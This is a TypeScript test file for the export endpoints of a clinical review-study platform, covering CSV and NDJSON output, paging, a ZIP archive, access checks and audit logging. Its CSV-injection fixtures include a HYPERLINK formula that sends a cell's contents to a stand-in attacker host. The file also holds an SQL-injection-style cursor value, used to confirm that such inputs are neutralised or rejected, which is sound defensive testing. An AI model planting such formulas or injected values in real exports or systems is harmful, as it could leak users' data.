// Exports over HTTP (docs/api/reviews.md "Dashboard and exports"): the four exports as CSV and
// NDJSON, keyset pages with `since` and `after`, the study archive; and the threats — formulas in
// exported cells (V3, CSV injection), another study's researcher (Z4), a participant (Z2), a
// forged cursor (V1), and export content in the audit log (L3).
import { inflateRawSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { describeClinic, type Actor } from '../../../../test/clinical-actors.js';
import {
  addParticipant,
  createStudyWorld,
  insertAssignment,
  insertCase,
  insertPublishedQuestionnaire,
  type StudyWorld,
} from '../../../../test/review-actors.js';
import { neutralizeCell } from '../../../platform/csv-cells.js';

const FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Dr Click")';
const FORMULA_ANSWER = '+SUM(1+2)@cmd';

/** The entries of a ZIP (names and contents), read from its central directory. */
function unzip(zip: Buffer): Map<string, string> {
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const count = zip.readUInt16LE(end + 10);
  let at = zip.readUInt32LE(end + 16);
  const files = new Map<string, string>();
  for (let i = 0; i < count; i++) {
    const method = zip.readUInt16LE(at + 10);
    const compressed = zip.readUInt32LE(at + 20);
    const nameLength = zip.readUInt16LE(at + 28);
    const extraLength = zip.readUInt16LE(at + 30);
    const commentLength = zip.readUInt16LE(at + 32);
    const local = zip.readUInt32LE(at + 42);
    const name = zip.toString('utf8', at + 46, at + 46 + nameLength);
    const dataStart = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const data = zip.subarray(dataStart, dataStart + compressed);
    files.set(name, (method === 8 ? inflateRawSync(data) : data).toString('utf8'));
    at += 46 + nameLength + extraLength + commentLength;
  }
  return files;
}

describeClinic('reviews: exports', (clinic) => {
  const call = clinic.call;
  let world: StudyWorld;
  let versionId: string;
  let formulaParticipant: Actor;
  let plainParticipant: Actor;
  let between: string;
  const answerIds: string[] = [];

  const get = (path: string, actor: Actor = world.owner) =>
    call(actor, 'GET', `/api/studies/${world.studyId}/exports/${path}`);
  const csv = (body: string) => parse<Record<string, string>>(body, { columns: true });

  async function answerAll(participant: Actor, comment: string): Promise<void> {
    const assignments = await clinic.db
      .selectFrom('review_assignments')
      .select('id')
      .where('participant_id', '=', participant.userId)
      .orderBy('position')
      .execute();
    for (const { id } of assignments) {
      const res = await call(participant, 'POST', `/api/reviews/assignments/${id}/answer`, {
        questionnaireVersionId: versionId,
        answers: { diagnosis: 'pneumonia', confidence: 2, comment },
      });
      expect(res.statusCode).toBe(201);
      answerIds.push(res.json<{ answer: { id: string } }>().answer.id);
    }
  }

  beforeAll(async () => {
    world = await createStudyWorld(clinic.app);
    versionId = await insertPublishedQuestionnaire(clinic.db, world.studyId);
    formulaParticipant = await addParticipant(clinic.app, world.studyId, FORMULA_NAME);
    plainParticipant = await addParticipant(clinic.app, world.studyId, 'Dr Plain');
    for (let i = 0; i < 3; i++) {
      const caseId = await insertCase(clinic.db, world.studyId, `x-${i}`);
      await insertAssignment(clinic.db, world.studyId, formulaParticipant.userId, caseId);
      await insertAssignment(clinic.db, world.studyId, plainParticipant.userId, caseId);
    }
    await answerAll(formulaParticipant, FORMULA_ANSWER);
    await new Promise((resolve) => setTimeout(resolve, 20));
    between = new Date().toISOString();
    await new Promise((resolve) => setTimeout(resolve, 20));
    await answerAll(plainParticipant, 'Plain comment');
  });

  describe('V3: CSV injection', () => {
    it('neutralizeCell prefixes = + - @ tab and CR, and nothing else', () => {
      for (const dangerous of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) {
        expect(neutralizeCell(dangerous)).toBe(`'${dangerous}`);
      }
      for (const safe of ['Dr Plain', '1+1', " '=x", '']) expect(neutralizeCell(safe)).toBe(safe);
    });

    it('a formula in a participant name and in a text answer is exported as text', async () => {
      const participants = await get('participants?format=csv');
      expect(participants.statusCode).toBe(200);
      const people = csv(participants.body);
      expect(people.map((row) => row.display_name).sort()).toEqual([
        `'${FORMULA_NAME}`,
        'Dr Plain',
      ]);
      const answers = csv((await get('answers')).body);
      const comments = answers.map((row) => row.q_comment);
      expect(comments).toContain(`'${FORMULA_ANSWER}`);
      expect(comments.some((cell) => cell?.startsWith('+'))).toBe(false);
      // The full answers object is a JSON cell (never starts with a formula character).
      expect(JSON.parse(answers[0]!.answers!)).toMatchObject({ diagnosis: 'pneumonia' });
      // NDJSON is data, not a spreadsheet: the text is exported as given.
      const ndjson = (await get('participants?format=ndjson')).body.trim().split('\n');
      expect(ndjson.map((line) => JSON.parse(line).display_name)).toContain(FORMULA_NAME);
    });
  });

  it('exports answers with one column per question, ids and the version; participants with counts', async () => {
    const res = await get('answers?format=csv');
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="study-${world.studyId}-answers.csv"`,
    );
    expect(res.headers.link).toBeUndefined();
    const rows = csv(res.body);
    expect(rows).toHaveLength(6);
    expect(Object.keys(rows[0]!)).toEqual(
      expect.arrayContaining([
        'seq',
        'answer_id',
        'participant_id',
        'case_external_id',
        'arm_id',
        'questionnaire_version',
        'ai_score_shown',
        'submitted_at',
        'q_diagnosis',
        'q_confidence',
        'q_comment',
        'answers',
      ]),
    );
    expect(rows.map((row) => row.answer_id).sort()).toEqual([...answerIds].sort());
    expect(rows[0]).toMatchObject({ q_diagnosis: 'pneumonia', q_confidence: '2' });

    const people = csv((await get('participants')).body);
    expect(people.find((row) => row.display_name === 'Dr Plain')).toMatchObject({
      assigned: '3',
      answered: '3',
      attention_passed: '0',
      status: 'active',
    });
    const analytics = (await get('analytics?format=ndjson')).body.trim().split('\n');
    expect(analytics).toHaveLength(6);
    expect(JSON.parse(analytics[0]!).flags).toEqual(
      expect.arrayContaining(['missing_case_opened', 'missing_form_opened']),
    );
    const assignments = csv((await get('assignments')).body);
    expect(assignments).toHaveLength(6);
    expect(assignments.every((row) => row.answered === 'true')).toBe(true);
  });

  it('pages by keyset with limit, after and since', async () => {
    for (const kind of ['answers', 'assignments', 'analytics', 'participants']) {
      const seen: string[] = [];
      let url: string | undefined =
        `/api/studies/${world.studyId}/exports/${kind}?format=ndjson&limit=4`;
      let pages = 0;
      while (url) {
        const res = await call(world.owner, 'GET', url);
        expect(res.statusCode, kind).toBe(200);
        const lines = res.body.trim() === '' ? [] : res.body.trim().split('\n');
        expect(lines.length, kind).toBeLessThanOrEqual(4);
        seen.push(...lines);
        const link = res.headers.link as string | undefined;
        url = link ? /^<([^>]+)>; rel="next"$/.exec(link)![1] : undefined;
        pages++;
      }
      const expected = kind === 'participants' ? 2 : 6;
      expect(seen, kind).toHaveLength(expected);
      expect(new Set(seen).size, kind).toBe(expected);
      expect(pages, kind).toBe(expected > 4 ? 2 : 1);
    }
    const since = csv((await get(`answers?since=${encodeURIComponent(between)}`)).body);
    expect(since).toHaveLength(3);
    expect(since.every((row) => row.participant_id === plainParticipant.userId)).toBe(true);
    const future = await get('answers?since=2999-01-01T00:00:00Z');
    expect(csv(future.body)).toEqual([]);
  });

  it('V1: refuses a forged cursor, an unknown kind and a limit over 100,000', async () => {
    expect((await get('answers?after=1%20or%201=1')).statusCode).toBe(400);
    expect((await get('assignments?after=12345')).statusCode).toBe(400);
    // Well-formed but impossible: beyond bigint, and 30 February (the database would throw).
    expect((await get('analytics?after=9999999999999999999')).statusCode).toBe(400);
    const february30 = `2026-02-30T00:00:00.000000Z~${world.studyId}`;
    expect((await get(`assignments?after=${encodeURIComponent(february30)}`)).statusCode).toBe(400);
    expect((await get('secrets')).statusCode).toBe(400);
    expect((await get('answers?limit=100001')).statusCode).toBe(400);
  });

  it('streams the study archive with the four exports, every questionnaire version and the cases', async () => {
    const res = await get('archive');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/zip');
    const files = unzip(res.rawPayload);
    expect([...files.keys()].sort()).toEqual([
      'analytics.csv',
      'answers.csv',
      'assignments.csv',
      'cases.json',
      'participants.csv',
      'questionnaire-v1.json',
    ]);
    expect(csv(files.get('answers.csv')!)).toHaveLength(6);
    expect(csv(files.get('participants.csv')!).map((row) => row.display_name)).toContain(
      `'${FORMULA_NAME}`,
    );
    const cases = JSON.parse(files.get('cases.json')!) as Array<{ externalId: string }>;
    expect(cases.map((c) => c.externalId)).toEqual(['x-0', 'x-1', 'x-2']);
    expect(JSON.parse(files.get('questionnaire-v1.json')!)).toMatchObject({
      id: versionId,
      version: 1,
    });
  });

  it('Z4: a researcher of another study gets 404; Z2: a participant gets 403', async () => {
    const other = await createStudyWorld(clinic.app);
    for (const path of ['answers', 'participants?format=ndjson', 'archive']) {
      expect((await get(path, other.owner)).statusCode, path).toBe(404);
      expect((await get(path, formulaParticipant)).statusCode, path).toBe(403);
    }
    const missing = await call(
      world.owner,
      'GET',
      '/api/studies/00000000-0000-4000-8000-000000000000/exports/answers',
    );
    expect(missing.statusCode).toBe(404);
  });

  it('L3: every export is audited with its parameters, never its content', async () => {
    await get('answers?format=ndjson&limit=5');
    const events = await clinic.db
      .selectFrom('audit_events')
      .select(['action', 'target_id', 'details'])
      .where('action', '=', 'review.exported')
      .where('actor_id', '=', world.owner.userId)
      .execute();
    expect(events.length).toBeGreaterThan(5);
    expect(events.at(-1)).toMatchObject({
      target_id: world.studyId,
      details: { studyId: world.studyId, kind: 'answers', format: 'ndjson', limit: 5, rows: 5 },
    });
    expect(events.some((e) => e.details.kind === 'archive')).toBe(true);
    // The last page (fewer rows than its limit) is audited with the rows it really holds.
    for (const kind of ['answers', 'analytics', 'assignments', 'participants']) {
      const whole = await get(`${kind}?format=ndjson&limit=1000`);
      expect(whole.statusCode).toBe(200);
      const lines = whole.body.split('\n').filter((line) => line !== '').length;
      expect(lines).toBeGreaterThan(0);
      const [event] = await clinic.db
        .selectFrom('audit_events')
        .select('details')
        .where('action', '=', 'review.exported')
        .where('actor_id', '=', world.owner.userId)
        .orderBy('seq', 'desc')
        .limit(1)
        .execute();
      expect(event?.details, kind).toMatchObject({ kind, limit: 1000, rows: lines });
    }
    const text = JSON.stringify(
      await clinic.db.selectFrom('audit_events').select('details').execute(),
    );
    expect(text).not.toContain('Plain comment');
    expect(text).not.toContain('SUM(1+2)');
    expect(text).not.toContain('HYPERLINK');
  });
});
